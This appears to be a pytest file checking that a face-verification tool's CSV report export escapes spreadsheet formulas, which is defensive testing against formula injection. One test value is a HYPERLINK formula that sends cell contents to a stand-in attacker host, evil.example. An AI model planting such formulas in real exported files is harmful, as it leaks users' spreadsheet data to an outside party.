"""``facegate report certifications --format csv`` writes cells a spreadsheet will not run as
formulas, by the same rule as the console's export (``workflows.review.reports.csv_safe``)."""
from __future__ import annotations

import csv

import pytest

from facegate.workflows.review.reports import csv_safe

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


@pytest.mark.parametrize("value,cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Anna", "Anna"), ("", ""), (None, None), (3, 3), ("a=b", "a=b"),
])
def test_csv_safe(value, cell):
    assert csv_safe(value) == cell


def test_cli_certification_report_escapes_formulas(tmp_path, monkeypatch):
    from facegate.cli import main
    from facegate.config import Settings
    from facegate.storage.store import Store

    for name in ("FACEGATE_DATABASE_URL", "FACEGATE_DATA_KEY", "FACEGATE_DATA_KEY_FILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("FACEGATE_DATA_DIR", str(tmp_path / "data"))
    store = Store.open(Settings.load())
    store.add_subject("-S1", name=FORMULA)
    store.add_subject("S2", name="Anna Berg")
    store.db.dispose()

    out = tmp_path / "report.csv"
    assert main(["report", "certifications", "--format", "csv", "--output", str(out)]) == 0
    with out.open(newline="") as fh:
        rows = {r["name"]: r for r in csv.DictReader(fh)}
    assert rows["'" + FORMULA]["subject_id"] == "'-S1"
    assert rows["Anna Berg"]["subject_id"] == "S2"
